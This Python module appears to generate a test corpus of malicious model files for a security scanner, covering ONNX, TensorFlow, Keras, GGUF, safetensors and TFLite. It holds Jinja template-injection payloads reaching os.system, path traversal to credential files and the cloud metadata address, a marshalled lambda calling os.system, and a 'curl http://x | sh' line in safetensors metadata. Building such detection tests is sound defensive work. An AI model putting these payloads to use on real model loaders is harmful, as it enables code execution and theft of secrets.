"""Model formats with code, paths or lies in them: ONNX, TensorFlow, Keras, GGUF, safetensors, TFLite."""

# ruff: noqa: E501, SIM905  tables of names and texts, one a line

import base64
import io
import json
import struct
from collections.abc import Iterator

from scanner_corpus.containers import EVIL, zip_of
from scanner_corpus.sample import Sample, malicious

__all__ = ["gguf", "onnx", "safetensors", "samples", "saved_model"]


def varint(value: int) -> bytes:
    out = b""
    while value > 127:
        out, value = out + bytes([value & 127 | 128]), value >> 7
    return out + bytes([value])


def put(number: int, value: int | bytes | str) -> bytes:
    if isinstance(value, int):
        return varint(number << 3) + varint(value)
    value = value.encode() if isinstance(value, str) else value
    return varint(number << 3 | 2) + varint(len(value)) + value


def onnx(*graph: bytes, more: bytes = b"") -> bytes:
    return put(1, 8) + put(2, "pytorch") + put(7, b"".join(graph)) + put(8, put(2, 17)) + more


def safetensors(header: object, body: bytes = bytes(16), size: int | None = None) -> bytes:
    raw = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(raw) if size is None else size) + raw + body


def _text(value: bytes | str) -> bytes:
    value = value.encode() if isinstance(value, str) else value
    return struct.pack("<Q", len(value)) + value


def gguf(
    values: dict[str, str | bytes], tensors: bytes = b"", count: int = 0, keys: int | None = None, version: int = 3
) -> bytes:
    head = b"GGUF" + struct.pack("<LQQ", version, count, len(values) if keys is None else keys)
    return head + b"".join(_text(k) + struct.pack("<L", 8) + _text(v) for k, v in values.items()) + tensors


def saved_model(*operators: str, library: bool = False, strings: tuple[str, ...] = ()) -> bytes:
    def node(operator: str, value: str = "") -> bytes:
        attribute = put(5, put(1, "value") + put(2, put(8, put(8, value)))) if value else b""
        return put(1, "n") + put(2, operator) + attribute

    nodes = [node(operator) for operator in operators] + [node("Const", text) for text in strings]
    if library:
        graph = put(1, node("MatMul")) + put(2, put(1, put(1, put(1, "f")) + b"".join(put(3, n) for n in nodes)))
    else:
        graph = put(1, node("Placeholder")) + b"".join(put(1, n) for n in nodes)
    return b"\x08\x01" + put(2, put(1, put(4, "serve")) + put(2, graph))


TEMPLATES = {
    "globals": "{{ cycler.__init__.__globals__.os.popen('true').read() }}",
    "mro": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "attr": "{{ ()|attr('__class__')|attr('__base__') }}",
    "attr join": "{{ ()|attr(['__cla','ss__']|join) }}",
    "attr format": "{{ ()|attr('%sclass%s'|format('__','__')) }}",
    "index": "{{ ''['__class__'] }}",
    "escaped index": "{{ ''['\\x5f\\x5fclass\\x5f\\x5f'] }}",
    "tilde": "{{ ''['__cl' ~ 'ass__'] }}",
    "reversed": "{{ ''['__ssalc__'[::-1]] }}",
    "lipsum": "{{ lipsum.__globals__['os'].system('true') }}",
    "namespace": "{% set ns = namespace() %}{{ ns.__init__.__globals__ }}",
    "joiner": "{{ joiner.__init__.__globals__.os }}",
    "self": "{{ self._TemplateReference__context.cycler.__init__.__globals__.os }}",
    "loop": "{% for c in [].__class__.__base__.__subclasses__() %}{{ c }}{% endfor %}",
    "map": "{{ [1]|map(attribute='__class__')|list }}",
    "set pieces": "{% set a='__glo' %}{% set b='bals__' %}{{ cycler.next[a~b] }}",
    "macro": "{% macro x() %}{% endmacro %}{{ x.__globals__ }}",
    "include": "{% include '/etc/passwd' %}",
    "import": "{% import 'os' as os %}{{ os.system('true') }}",
    "request": "{{ request.application.__globals__ }}",
    "getitem": "{{ cycler|attr('__init__')|attr('__globals__')|attr('__getitem__')('os') }}",
    "replace": "{{ ()['XXclassXX'|replace('X','_')] }}",
    "lower": "{{ ()['__CLASS__'|lower] }}",
    "request args": "{{ messages|attr(messages[0].content) }}",
    "raise exception": "{{ raise_exception.__globals__['sys'].modules['os'].system('true') }}",
    "strftime": "{{ strftime_now.__globals__ }}",
    "dict keys": "{{ ''[dict(__class__=1)|join] }}",
    "list first": "{{ ()[(['__class__']|first)] }}",
    "select": "{{ [cycler]|map('attr','__init__')|first }}",
    "slice": "{{ ''['x__class__'[1:]] }}",
}  # fmt: skip
_CHAT = "{% for message in messages %}<|{{ message['role'] }}|>\n{{ message['content'] }}\n{% endfor %}"


def samples() -> Iterator[Sample]:
    yield from _onnx()
    yield from _tensorflow()
    yield from _keras()
    yield from _templates()
    yield from _safetensors()
    yield from _gguf()
    yield from _tflite()


def _onnx() -> Iterator[Sample]:
    places = ("/etc/passwd", "../../../etc/passwd", "..\\..\\x", "C:\\Windows\\win.ini", "a/../../b", "~/.ssh/id_rsa",
              "http://example.org/w", "file:///etc/passwd", "\\\\server\\share", "weights/../../../x", "/proc/self/environ", "%2e%2e/x")  # fmt: skip
    for place in places:
        entry = put(13, put(1, "location") + put(2, place)) + put(14, 1)
        weights = put(1, 2) + put(2, 1) + put(8, "w") + entry
        yield malicious("onnx: external data", f"initializer {place}", onnx(put(5, weights)), "model.onnx")
        attribute = put(1, "value") + put(5, weights) + put(20, 4)
        node = put(4, "Constant") + put(5, attribute)
        yield malicious("onnx: external data", f"attribute {place}", onnx(put(1, node)), "weights.bin")
    for domain, name in (
        ("com.evil", "Run"), ("custom.ops", "ShellExec"), ("evil", "X"), ("my.domain", "PyOp"), ("com.microsoft", "PyOp"),
        ("ai.onnx.contrib", "PyCustomOp"), ("ai.onnx", "ShellCommand"), ("", "SystemExec"), ("", "PyFunc"), ("com.microsoft", "PythonOp"),
        ("attacker.lib", "LoadLibrary"), ("x.y", "ReadFile"),
    ):  # fmt: skip
        node = put(4, name) + put(7, domain)
        yield malicious("onnx: custom operators", f"{domain}:{name}", onnx(put(1, node)), "model.onnx")
        attribute = put(1, "body") + put(6, put(1, node)) + put(20, 5)
        outer = put(4, "Loop") + put(5, attribute)
        yield malicious("onnx: custom operators", f"in a loop {domain}:{name}", onnx(put(1, outer)), "model.onnx")
    lies = {
        "negative shape": put(1, (1 << 64) - 1) + put(2, 1) + put(9, bytes(8)),
        "huge shape": put(1, 1 << 40) + put(1, 1 << 40) + put(2, 1) + put(9, bytes(8)),
        "short data": put(1, 100) + put(2, 1) + put(9, bytes(8)),
        "long data": put(1, 2) + put(2, 1) + put(9, EVIL * 40),
        "no length": put(1, 2) + put(2, 1) + put(13, put(1, "location") + put(2, "w")) + put(13, put(1, "length") + put(2, "-1")) + put(14, 1),
        "a strange offset": put(1, 2) + put(2, 1) + put(13, put(1, "location") + put(2, "w")) + put(13, put(1, "offset") + put(2, "1e9")) + put(14, 1),
    }  # fmt: skip
    for name, tensor in lies.items():
        yield malicious("onnx: lies", name, onnx(put(5, tensor + put(8, "w"))), "model.onnx")
    more = {
        "metadata": onnx(more=put(14, put(1, "notes") + put(2, EVIL))),
        "documentation": onnx(more=put(6, b"x" * 20 + EVIL)),
        "raw data": onnx(put(5, put(1, len(EVIL)) + put(2, 2) + put(8, "w") + put(9, EVIL))),
        "unknown field": onnx(more=put(700, EVIL * 10)),
        "two graphs": onnx(more=put(7, put(2, "g"))),
        "appended": onnx() + EVIL,
    }
    for name, content in more.items():
        yield malicious("onnx: hidden", name, content, "model.onnx")


def _tensorflow() -> Iterator[Sample]:
    operators = """ReadFile WriteFile PyFunc EagerPyFunc PyFuncStateless MatchingFiles WholeFileReaderV2 TextLineDataset
        TFRecordDataset FixedLengthRecordDatasetV2 SaveDatasetV2 LoadDataset DebugIdentityV2 RpcCall GrpcServer
        ShellExecute ExecuteShell EvilOp CustomPayload SystemCommand LoadLibrary PrintV2 Save WriteScalarSummary
        SqlDataset CSVDataset LMDBDataset CacheDatasetV2 SnapshotDatasetReader RegisterDatasetV2 GeneratorDataset
        AssertCardinalityDataset MapDataset XlaHostCompute ExperimentalIgnoreErrorsDataset ReaderReadV2
        DatasetToTFRecord DeleteFile CopyFile CreateSummaryFileWriter CollectiveBcastRecv KafkaDataset
        NumpyFunction PyFuncV2 IO>FileRead Addons>Custom Text>SentencepieceOp TrtPythonOp""".split()  # fmt: skip
    harmless = {"AssertCardinalityDataset", "MapDataset", "WriteScalarSummary", "Save", "PrintV2", "Text>SentencepieceOp", "ExperimentalIgnoreErrorsDataset", "CollectiveBcastRecv"}  # fmt: skip
    for operator in operators:
        if operator in harmless:
            continue
        yield malicious("tensorflow: operators", operator, saved_model("MatMul", operator), "saved_model.pb")
        yield malicious(
            "tensorflow: operators", f"{operator}, function", saved_model(operator, library=True), "saved_model.pb"
        )
        graph = put(1, put(1, "a") + put(2, "Placeholder")) + put(1, put(1, "b") + put(2, operator))
        yield malicious("tensorflow: operators", f"{operator}, frozen", graph, "graph.pb")
    for place in (
        "/etc/passwd",
        "../../../../root/.ssh/authorized_keys",
        "http://example.org/x",
        "~/.bashrc",
        "/etc/cron.d/x",
    ):
        for operator in ("RestoreV2", "SaveV2"):
            content = saved_model(operator, strings=(place,))
            yield malicious("tensorflow: places", f"{operator} {place}", content, "saved_model.pb")
    for text in ('node {\n name: "a"\n op: "ReadFile"\n}\n', 'graph_def {\n node {\n op: "PyFunc" }}\n'):
        yield malicious("tensorflow: operators", f"text {text[:30]!r}", text, "saved_model.pbtxt")


def _layer(
    name: str, config: object, module: str | None = "keras.layers", registered: str | None = None
) -> dict[str, object]:
    layer: dict[str, object] = {"class_name": name, "config": config}
    if module is not None:
        layer |= {"module": module, "registered_name": registered}
    return layer


def _keras_configs() -> Iterator[tuple[str, dict[str, object]]]:
    import marshal

    code = base64.b64encode(marshal.dumps(compile("lambda x: __import__('os').system('true')", "m", "eval"))).decode()
    lambdas = {
        "marshalled": {
            "function": {"class_name": "__lambda__", "config": {"code": code, "defaults": None, "closure": None}}
        },
        "as a list": {"function": [code, None, None], "function_type": "lambda"},
        "output shape": {
            "function": "relu",
            "output_shape": {"class_name": "__lambda__", "config": {"code": code}},
            "function_type": "function",
        },
        "bytes": {"function": {"class_name": "__bytes__", "config": {"value": code}}, "function_type": "lambda"},
        "function in os": {"function": "system", "module": "os", "function_type": "function"},
        "function in subprocess": {"function": "run", "module": "subprocess", "function_type": "function"},
    }
    for name, config in lambdas.items():
        yield f"lambda {name}", _layer("Lambda", {"name": "l", **config})
        yield f"lambda {name}, old", _layer("Lambda", {"name": "l", **config}, None)
        yield f"lambda {name}, wrapped", _layer("TimeDistributed", {"layer": _layer("Lambda", config)})
    for module, function in (
        ("os", "system"), ("builtins", "eval"), ("builtins", "exec"), ("subprocess", "Popen"), ("posix", "system"), ("runpy", "run_path"),
        ("importlib", "import_module"), ("keras.src.utils.file_utils", "get_file"), ("keras.utils", "get_file"), ("shutil", "rmtree"),
        ("keras.saving", "load_model"), ("numpy", "load"), ("tensorflow", "io.read_file"), ("keras.config", "enable_unsafe_deserialization"),
        ("keras.src.saving.serialization_lib", "enable_unsafe_deserialization"), ("functools", "partial"), ("_pickle", "loads"),
        ("torch", "load"), ("torch.hub", "load"), ("webbrowser", "open"), ("pty", "spawn"), ("keras.src.legacy.saving.saving_utils", "model_from_config"),
    ):  # fmt: skip
        yield f"function {module}.{function}", _layer("function", function, module, function)
        yield (
            f"activation {module}.{function}",
            _layer("Dense", {"units": 1, "activation": _layer("function", function, module, function)}),
        )
        yield f"class {module}.{function}", _layer(function, {"args": ["true"]}, module, function)
    for layer, key in (
        ("StringLookup", "vocabulary"),
        ("IntegerLookup", "vocabulary"),
        ("TextVectorization", "vocabulary"),
    ):
        for place in (
            "/etc/passwd",
            "../../secret",
            "~/.ssh/id_rsa",
            "http://169.254.169.254/",
            "file:///etc/shadow",
            "C:\\x",
        ):
            yield f"{layer} {place}", _layer(layer, {key: place, "max_tokens": None})
    for function in ("tf.io.read_file", "tf.raw_ops.WriteFile", "io.write_file", "py_function", "numpy_function"):
        yield f"TFOpLambda {function}", _layer("TFOpLambda", {"function": function}, None)


def _keras() -> Iterator[Sample]:
    for number, (name, layer) in enumerate(_keras_configs()):
        group = "keras: " + (
            "lambda" if name.startswith("lambda") else "files" if "Look" in name or "Vector" in name else "objects"
        )
        model = {
            "class_name": "Sequential",
            "module": "keras",
            "registered_name": "Sequential",
            "config": {"name": "s", "layers": [layer]},
        }
        text = json.dumps(model).encode()
        archive = zip_of({"metadata.json": b'{"keras_version": "3.3.3"}', "config.json": text})
        yield malicious(group, f"{name} .keras", archive, "model.keras")
        if number % 3 == 0:
            yield malicious(group, f"{name} json", text, "model.json")
        elif number % 3 == 1 and (content := _hdf5(text)):
            yield malicious(group, f"{name} h5", content, "model.h5")
        else:
            yield malicious(group, f"{name} in a saved model", text, "keras_metadata.json")


def _hdf5(config: bytes) -> bytes | None:
    try:
        import h5py
    except ImportError:
        return None
    buffer = io.BytesIO()
    with h5py.File(buffer, "w") as file:
        file.attrs["model_config"] = config
        file.attrs["keras_version"] = "2.15.0"
    return buffer.getvalue()


def _templates() -> Iterator[Sample]:
    for number, (name, template) in enumerate(TEMPLATES.items()):
        text = _CHAT + template
        carriers = {
            "tokenizer_config.json": json.dumps({"tokenizer_class": "LlamaTokenizer", "chat_template": text}).encode(),
            "chat_template.jinja": text.encode(),
            "model.gguf": gguf({"general.architecture": "llama", "tokenizer.chat_template": text}),
            "chat_template.json": json.dumps({"chat_template": [{"name": "default", "template": text}]}).encode(),
            "processor_config.json": json.dumps({"chat_template": {"rag": text}}).encode(),
        }
        for index, (file, content) in enumerate(carriers.items()):
            if index < 3 or number % 2 == index % 2:
                yield malicious("templates", f"{name} {file}", content, file)


def _safetensors() -> Iterator[Sample]:
    def one(begin: int, end: int, shape: tuple[int, ...] = (4,), kind: str = "F32") -> dict[str, object]:
        return {"dtype": kind, "shape": list(shape), "data_offsets": [begin, end]}

    cases = {
        "overlap": safetensors({"a": one(0, 16), "b": one(8, 24)}, bytes(24)),
        "same place": safetensors({"a": one(0, 16), "b": one(0, 16)}),
        "past the end": safetensors({"a": one(0, 16), "b": one(16, 1 << 40, (1 << 38,))}),
        "negative": safetensors({"a": one(-16, 0)}),
        "backwards": safetensors({"a": one(16, 0)}),
        "shape lie": safetensors({"a": one(0, 16, (400,))}),
        "a header too long": safetensors({"a": one(0, 16)}, size=1 << 40),
        "a header of 200 MB": safetensors({"a": one(0, 16)}, size=200 << 20),
        "a duplicate key": safetensors(b'{"a":{"dtype":"F32","shape":[4],"data_offsets":[0,16]},"a":{"dtype":"U8","shape":[16],"data_offsets":[0,16]}}'),
        "a pickle in a gap": safetensors({"a": one(0, 16), "b": one(16 + len(EVIL), 32 + len(EVIL))}, bytes(16) + EVIL + bytes(16)),
        "a pickle behind": safetensors({"a": one(0, 16)}, bytes(16) + EVIL),
        "a pickle in metadata": safetensors({"__metadata__": {"x": base64.b64encode(EVIL).decode()}, "a": one(0, 16)}),
        "a pickle as a tensor": safetensors({"a": one(0, len(EVIL), (len(EVIL),), "U8")}, EVIL),
        "a script in metadata": safetensors({"__metadata__": {"x": "import os\nos.system('curl http://x | sh')"}, "a": one(0, 16)}),
        "a huge shape": safetensors({"a": one(0, 16, (1 << 62, 4))}),
        "an unknown type": safetensors({"a": one(0, 16, (4,), "PICKLE")}),
        "a program as a tensor": safetensors({"a": one(0, 64, (64,), "U8")}, b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\0\x3e\0\x01\0\0\0" + bytes(40)),
    }  # fmt: skip
    for name, content in cases.items():
        yield malicious("safetensors", name, content, "model.safetensors")


def _gguf() -> Iterator[Sample]:
    tensor = _text("w") + struct.pack("<LQLQ", 1, 1 << 60, 0, 0)
    cases = {
        "a count of keys": gguf({"a": "b"}, keys=1 << 60),
        "a count of tensors": gguf({"a": "b"}, count=1 << 62),
        "a huge tensor": gguf({"a": "b"}, tensor, 1),
        "a long text": b"GGUF" + struct.pack("<LQQ", 3, 0, 1) + _text("a") + struct.pack("<LQ", 8, 1 << 62) + b"x",
        "a long array": b"GGUF" + struct.pack("<LQQ", 3, 0, 1) + _text("a") + struct.pack("<LLQ", 9, 0, 1 << 61),
        "nested arrays": b"GGUF" + struct.pack("<LQQ", 3, 0, 1) + _text("a") + struct.pack("<L", 9) + struct.pack("<LQ", 9, 1) * 40,
        "an offset": gguf({"a": "b"}, _text("w") + struct.pack("<LQLQ", 1, 4, 0, 1 << 50), 1),
        "many dimensions": gguf({"a": "b"}, _text("w") + struct.pack("<L", 1 << 30), 1),
        "a pickle in metadata": gguf({"notes": EVIL}),
        "a pickle behind": gguf({"general.architecture": "llama"}) + bytes(64) + EVIL,
        "a key twice": b"GGUF" + struct.pack("<LQQ", 3, 0, 2) + (_text("a") + struct.pack("<L", 8) + _text("b")) * 2,
    }  # fmt: skip
    for name, content in cases.items():
        yield malicious("gguf: lies", name, content, "model.gguf")


def _tflite() -> Iterator[Sample]:
    def model(custom: bytes) -> bytes:
        head = struct.pack("<L4s", 16, b"TFL3") + struct.pack("<HHHH", 8, 8, 0, 4)
        table = struct.pack("<lL", 8, 4) + struct.pack("<LL", 1, 12) + struct.pack("<HHHH", 8, 8, 0, 4)
        return head + table + struct.pack("<lL", 8, 4) + struct.pack("<L", len(custom)) + custom + bytes(8)

    for name in ("FlexReadFile", "FlexWriteFile", "FlexPyFunc", "ShellExec", "EvilCustomOp", "FlexEagerPyFunc", "SystemCall", "LoadPlugin", "FlexMatchingFiles"):  # fmt: skip
        yield malicious("tflite: operators", name, model(name.encode()), "model.tflite")
    yield malicious("tflite: hidden", "a pickle behind", model(b"X") + EVIL, "model.tflite")
    yield malicious("tflite: hidden", "an archive behind", model(b"X") + zip_of({"a.pkl": EVIL}), "model.tflite")
